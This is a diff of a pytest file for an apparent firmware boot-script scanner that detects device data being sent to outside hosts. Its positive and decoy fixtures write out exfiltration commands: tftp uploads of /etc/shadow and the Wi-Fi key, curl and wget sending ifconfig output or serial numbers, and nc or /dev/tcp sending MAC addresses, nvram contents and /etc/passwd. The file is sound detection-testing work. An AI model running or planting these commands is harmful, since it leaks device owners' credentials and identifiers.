@@ -45,6 +45,28 @@ POSITIVES: dict[str, tuple[dict[str, str | bytes], str, bytes, str]] = {
         {"/etc/inittab": INITTAB,
          "/etc/init.d/rcS": "#!/bin/sh\ntftp -p -l /etc/shadow -r s.txt 198.51.100.7\n"},
         "/etc/init.d/rcS", b"tftp -p -l /etc/shadow -r s.txt 198.51.100.7", "198.51.100.7"),
+    "uploaded-file-the-job-wrote": (
+        {"/etc/inittab": INITTAB,
+         "/etc/init.d/rcS": "#!/bin/sh\nifconfig -a > /tmp/.n\ncurl -s -F n=@/tmp/.n http://u.example.org/u\n"},
+        "/etc/init.d/rcS", b"curl -s -F n=@/tmp/.n http://u.example.org/u", "u.example.org"),
+    "tftp-of-a-file-from-a-variable": (
+        {"/etc/inittab": INITTAB,
+         "/etc/init.d/rcS": "#!/bin/sh\nK=`nvram get wl0_wpa_psk`\necho \"$K\" | tee /tmp/k\n"
+                            "tftp -p -l /tmp/k -r k 198.51.100.200\n"},
+        "/etc/init.d/rcS", b"tftp -p -l /tmp/k -r k 198.51.100.200", "198.51.100.200"),
+    "host-in-sourced-config": (
+        {"/etc/inittab": INITTAB, "/etc/report.conf": "SERVER=report.example.net\n",
+         "/etc/init.d/rcS": "#!/bin/sh\n. /etc/report.conf\nSN=$(nvram get serial_no)\n"
+                            "wget -q -O- \"http://${SERVER}/r?sn=$SN\"\n"},
+        "/etc/init.d/rcS", b'wget -q -O- "http://${SERVER}/r?sn=$SN"', "report.example.net"),
+    "data-in-the-url-path": (
+        {"/etc/inittab": INITTAB,
+         "/etc/init.d/rcS": "#!/bin/sh\nSN=$(nvram get serial_no)\nwget -q http://b.example.com/$SN\n"},
+        "/etc/init.d/rcS", b"wget -q http://b.example.com/$SN", "b.example.com"),
+    "udhcpc-user-hook": (
+        {"/etc/udhcpc.user": "#!/bin/sh\n[ \"$1\" = bound ] || exit 0\n"
+                             "MAC=$(cat /sys/class/net/eth0/address)\necho $MAC | nc 203.0.113.4 81\n"},
+        "/etc/udhcpc.user", b"echo $MAC | nc 203.0.113.4 81", "203.0.113.4"),
     "nvram-to-dev-tcp": (
         {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnvram show > /dev/tcp/203.0.113.50/80\n"},
         "/etc/init.d/rcS", b"nvram show > /dev/tcp/203.0.113.50/80", "203.0.113.50"),
@@ -61,6 +83,12 @@ DECOYS: dict[str, dict[str, str | bytes]] = {
     "config-to-variable-host": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                                 "#!/bin/sh\nSERVER=$(nvram get backup_server)\n"
                                 "tftp -p -l /etc/config/network $SERVER\n"},
+    "host-from-nvram": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
+                        "#!/bin/sh\nSRV=$(nvram get update_server)\nMAC=$(cat /sys/class/net/eth0/address)\n"
+                        "wget -q \"http://$SRV/r?mac=$MAC\"\n"},
+    "mac-in-local-file-name": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
+                               "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
+                               "wget -q -O /tmp/fw-$MAC.bin http://203.0.113.8/fw.bin\n"},
     "not-run-at-boot": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
                         "/usr/share/doc/example.sh": "cat /etc/passwd | nc 203.0.113.9 80\n"},
 }
@@ -77,11 +105,12 @@ def test_job_sending_device_data_is_found(case: str) -> None:
     assert found[0].severity == Severity.CRITICAL
 
 
-def test_lan_destination_is_low_severity() -> None:
+@pytest.mark.parametrize("host", ["192.168.1.10", "10.1.2.3", "127.0.0.1", "169.254.1.1", "printer.lan"])
+def test_lan_or_loopback_destination_is_not_reported(host: str) -> None:
+    """A LAN address reaches whatever host each owner's network has there: no collector."""
     files: dict[str, str | bytes] = {
-        "/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\ncat /etc/passwd | nc 192.168.1.10 9000\n"}
-    (found,) = _run(files)
-    assert found.severity == Severity.LOW and found.details["private"] is True
+        "/etc/inittab": INITTAB, "/etc/init.d/rcS": f"#!/bin/sh\ncat /etc/passwd | nc {host} 9000\n"}
+    assert _run(files) == []
 
 
 @pytest.mark.parametrize("case", sorted(DECOYS))
